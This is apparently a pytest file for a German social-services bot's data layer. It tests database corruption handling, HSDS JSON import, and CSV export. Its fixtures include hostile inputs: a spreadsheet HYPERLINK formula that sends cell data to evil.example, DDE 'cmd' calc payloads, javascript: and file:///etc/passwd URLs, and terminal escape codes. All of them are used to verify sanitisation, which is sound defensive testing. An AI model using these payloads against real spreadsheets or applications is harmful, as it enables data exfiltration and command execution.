"""Issue 11, the data side: what a broken file, a foreign database, an attacker's listing and a bad day do.

Every test here failed before its fix. The knowledge-file cases are in test_knowledge.py's style:
small files written by hand (fictional numbers 030 23125 xxx, example.org).
"""

from __future__ import annotations

import importlib
import os
import shutil
import sqlite3
from collections.abc import Callable
from pathlib import Path
from types import ModuleType

import pytest

from bot.schema import SCHEMA_VERSION, TABLES
from bot.search import search
from bot.store import Store, UnusableDatabase

ROOT = Path(__file__).resolve().parent.parent
SHIPPED = ROOT / "offers.db"


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "offers.db"
    shutil.copyfile(SHIPPED, path)
    return path


def _overwrite_in_place(path: Path, content: bytes) -> None:
    """What ``cp new offers.db`` does when offers.db exists: the same inode, new bytes."""
    inode = path.stat().st_ino
    with open(path, "r+b") as fh:
        fh.truncate(0)
        fh.write(content)
    assert path.stat().st_ino == inode


# --- 3, 4: offers.db replaced in place or by a foreign file -------------------------------------------


@pytest.mark.parametrize("damage", ["random bytes", "empty", "half"])
def test_a_copy_over_the_same_inode_keeps_the_old_data(db: Path, damage: str) -> None:
    store = Store(db)
    first = store.offer_ids()[0]
    name = store.offer(first).name
    whole = db.read_bytes()
    _overwrite_in_place(db, {"random bytes": os.urandom(len(whole)), "empty": b"",
                             "half": whole[: len(whole) // 2]}[damage])
    assert store.refresh() is False
    store.drop_records()
    assert store.offer(first).name == name  # read again from the store's own copy, not the broken file
    assert search(store, "Schuldnerberatung").results
    _overwrite_in_place(db, whole)  # the admin copies the right file: taken at once
    assert store.refresh() is True and store.generation == 1


def _foreign(path: Path, setup: str) -> None:
    with sqlite3.connect(path) as conn:
        conn.executescript(setup)


def test_a_foreign_offers_table_is_not_switched_to(db: Path, tmp_path: Path) -> None:
    store = Store(db)
    foreign = tmp_path / "foreign.db"
    _foreign(foreign, "CREATE TABLE offers (x); INSERT INTO offers VALUES (1);")
    os.replace(foreign, db)
    assert store.refresh() is False
    assert len(store.offer_ids()) > 100
    with pytest.raises(UnusableDatabase) as refused:
        Store(db)
    assert refused.value.reason.startswith("es fehlen die Tabellen contacts, phones, topics")
    assert "python scripts/sync_offers.py" in str(refused.value)


@pytest.mark.parametrize(("change", "reason"), [
    ("ALTER TABLE contacts DROP COLUMN room", "der Tabelle contacts fehlen die Spalten room"),
    ("DELETE FROM meta WHERE key = 'built_at'", "in der Tabelle meta fehlen built_at"),
    (f"UPDATE meta SET value = '{int(SCHEMA_VERSION) + 1}' WHERE key = 'schema_version'",
     f"Aufbau Version '{int(SCHEMA_VERSION) + 1}', dieser Code liest Version '{SCHEMA_VERSION}'"),
    ("DELETE FROM offers WHERE rowid = (SELECT min(rowid) FROM offers)", "die Tabelle offers hat"),
])
def test_the_whole_layout_and_the_meta_table_are_checked(db: Path, change: str, reason: str) -> None:
    with sqlite3.connect(db) as conn:
        conn.execute(change)
    with pytest.raises(UnusableDatabase, match=reason):
        Store(db)


def test_the_checked_layout_is_what_the_sync_writes() -> None:
    """bot.schema.TABLES lists every table of a synced database (shadow tables of FTS5 aside) and its columns."""
    conn = sqlite3.connect(SHIPPED)
    names = [n for (n,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
             if not n.endswith(("_data", "_idx", "_config", "_docsize", "_content"))]
    assert sorted(names) == sorted(TABLES)
    for table, columns in TABLES.items():
        assert tuple(row[1] for row in conn.execute(f"PRAGMA table_info('{table}')")) == columns, table


# --- 12: OFFERS_DB pointing at something that is no database ---------------------------------------


def script(name: str) -> ModuleType:
    """The code of scripts/<name>.py (bot/cli/<name>.py)."""
    return importlib.import_module(f"bot.cli.{name}")


def _cli_runs() -> list[Callable[[], int]]:
    from bot.cli import answer

    export_offers, export_hsds, report = script("export_offers"), script("export_hsds"), script("report")
    return [lambda: answer.main(["Schulden"]), lambda: export_offers.main(["--out", "/nonexistent/x.csv"]),
            lambda: report.main([]), lambda: export_hsds.main(["--json", "/nonexistent/x.json"])]


def test_offers_db_pointing_at_a_non_database_gives_a_message(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / "kein.db"
    bad.write_bytes(b"PK\x03\x04 zip, not sqlite" * 50)
    monkeypatch.setenv("OFFERS_DB", str(bad))
    for run in _cli_runs():
        assert run() == 1
        err = capsys.readouterr().err
        assert f"{bad} ist keine nutzbare Angebotsdatenbank: keine SQLite-Datenbank" in err, err


# --- 11, 12, 13: HSDS files from outside ----------------------------------------------------------------


def _service(**fields: object) -> dict[str, object]:
    return {"id": "5e0c5d4a-0000-4000-8000-000000000001", "name": "Schuldnerberatung Beispiel", "status": "active",
            "organization": {"id": "org-1", "name": "Träger Beispiel"}, **fields}


@pytest.fixture
def run_hsds(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Callable[..., tuple[int, str, str, Path]]:
    def run(content: str, *args: str) -> tuple[int, str, str, Path]:
        source, out = tmp_path / "services.json", tmp_path / "offers" / "hsds.yaml"
        source.write_text(content, encoding="utf-8")
        code = script("import_hsds").main([str(source), "--out", str(out), "--today", "2026-11-01", *args])
        captured = capsys.readouterr()
        return code, captured.out, captured.err, out

    return run


@pytest.mark.parametrize(("content", "reason"), [
    ("[" * 100_000 + "]" * 100_000, "das JSON ist zu tief verschachtelt"),
    ('[{"id": "x", "name": "A", "status": "active", "organization_id": ' + "7" * 5001 + "}]",
     "kein lesbares JSON (Exceeds the limit (4300 digits)"),
    ("".join(f'{{"id":"s{i}","name":"S","status":"active","organization":{{"id":"o{i}","name":"O","services":['
             for i in range(500)) + "{}" + "]}}" * 500, "zu tief"),
])
def test_hsds_json_that_python_cannot_read_is_a_message(run_hsds: Callable[..., tuple[int, str, str, Path]],
                                                        content: str, reason: str) -> None:
    code, _, err, out = run_hsds(content, "--source-url", "https://portal.example.org/hsds")
    assert code == 1 and reason in err and "Die HSDS-Daten wurden nicht übernommen." in err, err
    assert not out.exists()


def test_hsds_urls_must_be_http_or_https(run_hsds: Callable[..., tuple[int, str, str, Path]]) -> None:
    import json

    import yaml

    feed = json.dumps([_service(url="javascript:alert(1)", organization={"id": "org-1", "name": "Träger",
                                                                        "website": "https://example.org/traeger"})])
    code, printed, _, out = run_hsds(feed)
    assert code == 0
    [offer] = yaml.safe_load(out.read_text(encoding="utf-8"))["offers"]
    assert "website" not in offer and offer["source"]["url"] == "https://example.org/traeger"
    assert "Webseite 'javascript:alert(1)' ist keine Adresse mit http:// oder https://" in printed
    # no http(s) address anywhere: no source at all, so nothing is written (before: source.url "services.json")
    written = out.read_bytes()
    code, _, err, _ = run_hsds(json.dumps([_service(url="file:///etc/passwd")]))
    assert code == 1 and "keine Webadresse (http/https) als Quelle; bitte mit --source-url angeben" in err
    assert out.read_bytes() == written
    code, _, err, _ = run_hsds(json.dumps([_service()]), "--source-url", "ftp://portal.example.org")
    assert code == 1 and "--source-url 'ftp://portal.example.org' ist keine Webadresse" in err


def test_hsds_control_characters_are_stripped_and_named(run_hsds: Callable[..., tuple[int, str, str, Path]]) -> None:
    import json

    import yaml

    feed = json.dumps([_service(name="Schuldner\x00beratung\x1b[2J", description="Zeile 1\r\nZeile 2\x7f")])
    code, printed, _, out = run_hsds(feed, "--source-url", "https://portal.example.org/hsds")
    assert code == 0, printed
    [offer] = yaml.safe_load(out.read_text(encoding="utf-8"))["offers"]
    assert (offer["name"], offer["description"]) == ("Schuldnerberatung[2J", "Zeile 1\nZeile 2")
    assert "services 5e0c5d4a-0000-4000-8000-000000000001: name: Steuerzeichen entfernt (U+0000, U+001B)" in printed
    assert "description: Steuerzeichen entfernt (U+007F)" in printed


# --- 5: spreadsheet formulas in exports, flagged at import ---------------------------------------------


def _listing_row(**cells: str) -> dict[str, str]:
    return {"Nr": "TST-1", "Angebot": "Schuldnerberatung Beispiel", "Quelle": "https://example.org/a", **cells}


def test_exported_cells_cannot_start_a_formula_and_read_back_the_same(tmp_path: Path) -> None:
    """OWASP's CSV injection: a quote before ``=``, ``+``, ``-``, ``@``; the import takes it off again.

    The choice for numbers: ``+43 1 2345678`` or ``-`` (digits, spaces, ``+ - ( ) / .`` only) stays as it is.
    Excel reads such a cell at worst as a sum or a number: it names no function, no cell and no DDE
    call, so nothing can run or leak, and a foreign phone number stays dialable (``'+43 ...`` would be
    copied with its quote). German numbers are exported nationally (``03632 741528``) anyway.
    """
    from bot.listing import COLUMNS, read_listing, write_listing

    hostile = {"Angebot": '=HYPERLINK("https://evil.example/?"&A1;"Klick")', "Träger": "+SUM(A1:A9)",
               "Beschreibung": "-2+3+cmd|' /C calc'!A0", "Hinweis": "@SUM(1+1)*cmd|' /C calc'!A0",
               "Ort": "\t=1+1", "Telefon": "+43 1 2345678", "Straße": "-", "Kategorie": "Beratung = Hilfe"}
    path = tmp_path / "export.csv"
    write_listing([_listing_row(**hostile)], path)
    text = path.read_text(encoding="utf-8")
    cells = text.splitlines()[1]
    for formula in ('=HYPERLINK', "+SUM", "-2+3", "@SUM"):
        assert f";'{formula}" in cells or f";\"'{formula}" in cells, formula
    assert ";'\t=1+1;" in cells  # a tab in front is one of OWASP's formula starts too
    assert ";+43 1 2345678;" in cells and ";-;" in cells and ";Beratung = Hilfe;" in cells
    listing = read_listing(path)
    row = listing.rows[0].values
    assert {c: row[c] for c in hostile} == {**hostile, "Ort": "=1+1"}  # (cells are read stripped)
    assert sorted(w.split(": ")[1] for w in listing.warnings) == ["Angebot", "Beschreibung", "Hinweis", "Ort",
                                                                   "Träger"]
    assert listing.warnings[0] == (f"{path}:2: Angebot: beginnt mit '=' wie eine Tabellenformel "
                                   f"({hostile['Angebot'][:40]!r}); in Exporten mit ' davor entschärft, bitte prüfen")
    assert COLUMNS[0] == "Nr"


def test_a_cell_of_whitespace_only_reads_back_empty_not_as_a_quote(tmp_path: Path) -> None:
    """Found by the property test: a tab alone is a formula start, exported as ``'\t``; the import
    stripped the tab before taking the quote off and kept a lone "'"."""
    from bot.listing import read_listing, write_listing

    path = tmp_path / "export.csv"
    write_listing([_listing_row(Hinweis="\t", Beschreibung=" \t=1+1")], path)
    row = read_listing(path).rows[0].values
    assert row["Hinweis"] == "" and row["Beschreibung"] == "=1+1"


def test_the_report_csv_cannot_start_a_formula(tmp_path: Path) -> None:
    from bot.report import Finding, write_report_csv

    path = tmp_path / "report.csv"
    write_report_csv([Finding("doppelt", "tst-1", "=cmd|' /C calc'!A0", None, "+49 30 23125101 auch in x\x00",
                              file="@x.yaml", line=3)], path)
    row = path.read_text(encoding="utf-8").splitlines()[1]
    # a number alone would stay as it is; with words after it a spreadsheet could read a formula
    assert row == "mögliche Doppelungen;tst-1;;'=cmd|' /C calc'!A0;;'@x.yaml;3;'+49 30 23125101 auch in x"


# --- 13: listing details --------------------------------------------------------------------------------


@pytest.mark.slow
def test_a_5_mb_field_is_refused_as_too_large(tmp_path: Path) -> None:
    from bot.listing import ListingError, read_listing, write_listing

    path = tmp_path / "gross.csv"
    write_listing([_listing_row(Beschreibung="x" * 5_000_000)], path)
    with pytest.raises(ListingError) as refused:
        read_listing(path)
    assert refused.value.problems == [f"{path}:2: Beschreibung: Feld zu groß (mehr als 131.072 Zeichen)"]
    write_listing([_listing_row(Angebot="Tafel " * 60, Beschreibung="x" * 5001)], path)
    with pytest.raises(ListingError) as refused:
        read_listing(path)
    assert refused.value.problems == [f"{path}:2: Angebot: Feld zu groß: 359 Zeichen, höchstens 300",
                                      f"{path}:2: Beschreibung: Feld zu groß: 5.001 Zeichen, höchstens 5.000"]


def test_control_characters_are_stripped_at_import_and_named(tmp_path: Path) -> None:
    from bot.importer import dump_offers, import_listing
    from bot.listing import read_listing

    path = tmp_path / "steuer.csv"
    header = ";".join(["Nr", "Angebot", "Träger", "Kategorie", "Schlagworte", "Zielgruppe", "Beschreibung",
                       "Straße", "PLZ", "Ort", "Landkreis", "Ansprechperson", "Telefon", "E-Mail", "Webseite",
                       "Sprechzeiten", "Hinweis", "Quelle", "Stand"])
    row = "TST-1;Tafel\x00 Beispiel;;;;;Ausgabe\x1b[31m rot\x7f;;;;;;;;;;;https://example.org/a;"
    path.write_text(header + "\n" + row + "\n", encoding="utf-8")
    listing = read_listing(path)
    assert listing.rows[0]["Angebot"] == "Tafel Beispiel" and listing.rows[0]["Beschreibung"] == "Ausgabe[31m rot"
    assert listing.warnings == [f"{path}:2: Angebot: Steuerzeichen entfernt (U+0000)",
                                f"{path}:2: Beschreibung: Steuerzeichen entfernt (U+001B, U+007F)"]
    offers_file, summary = import_listing(listing, None, None)
    assert "\x00" not in dump_offers(offers_file) and summary.warnings[:2] == listing.warnings


@pytest.mark.parametrize("source", ["javascript:alert(1)", "Flyer 2023", "ftp://example.org/a"])
def test_a_listing_row_without_a_web_source_is_refused(tmp_path: Path, source: str) -> None:
    from bot.listing import ListingError, read_listing, write_listing

    path = tmp_path / "quelle.csv"
    write_listing([_listing_row(Quelle=source)], path)
    with pytest.raises(ListingError) as refused:
        read_listing(path)
    assert refused.value.problems == [f"{path}:2: Quelle: {source!r} ist keine Webadresse (http/https); jedes "
                                      "Angebot nennt die Seite, von der es stammt"]


def test_a_website_that_is_no_http_address_is_not_taken(tmp_path: Path) -> None:
    from bot.importer import row_to_offer

    result = row_to_offer(_listing_row(Webseite="javascript:alert(1)"), "x.csv", None)
    assert result.offer.website is None
    assert result.warnings == ["Webseite: keine Webadresse: javascript:alert(1)"]


# --- 13: the log filter cut words ------------------------------------------------------------------------


def test_the_log_filter_redacts_whole_words_only() -> None:
    from bot.telegram.middlewares.privacy_logging import REDACTED, Secrets

    secrets = Secrets(texts={"/reload", "Schulden in Sondershausen"})
    assert secrets.redact("offers database reloaded (generation 1)", b"s") == "offers database reloaded (generation 1)"
    assert secrets.redact("asked '/reload' and 'Schulden in Sondershausen'", b"s") == \
        f"asked '{REDACTED}' and '{REDACTED}'"
    assert secrets.redact("SONDERSHAUSEN: 3 Treffer für schulden", b"s") == f"{REDACTED}: 3 Treffer für {REDACTED}"


# --- 14: a large import prints a summary, and its YAML is written offer by offer ----------------------------


@pytest.mark.slow
def test_a_large_import_prints_a_summary_not_every_id(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from benchmarks.bench_import import synthetic_rows
    from bot.listing import write_listing

    listing = tmp_path / "gross.csv"
    write_listing(synthetic_rows(120), listing)
    assert script("import_listing").main([str(listing), "--out", str(tmp_path / "gross.yaml")]) == 0
    printed = capsys.readouterr().out.splitlines()
    assert printed[1] == "neu: 120, geändert: 0, entfernt: 0"
    added = [line for line in printed if line.startswith("  + ")]
    assert added[:2] == ["  + syn-00000", "  + syn-00001"] and len(added) == 51
    assert added[-1] == "  + … und 70 weitere"


@pytest.mark.slow
def test_offers_written_one_by_one_give_the_text_of_one_dump() -> None:
    """dump_offers emits each offer alone (memory); the text must be what one dump of the file gives."""
    import yaml

    from bot.importer import HEADER, _Dumper, _Quoted, dump_offers, load_offers_file

    for path in sorted((ROOT / "knowledge" / "offers").glob("*.yaml")):
        offers_file = load_offers_file(path)
        assert offers_file is not None
        data = offers_file.model_dump(mode="json", exclude_defaults=True)
        for offer in data["offers"]:
            for key in ("text", "osm"):
                if key in offer.get("hours", {}):
                    offer["hours"][key] = _Quoted(offer["hours"][key])
        whole = HEADER + yaml.dump(data, Dumper=_Dumper, allow_unicode=True, sort_keys=False, width=100)
        assert dump_offers(offers_file) == whole, path.name
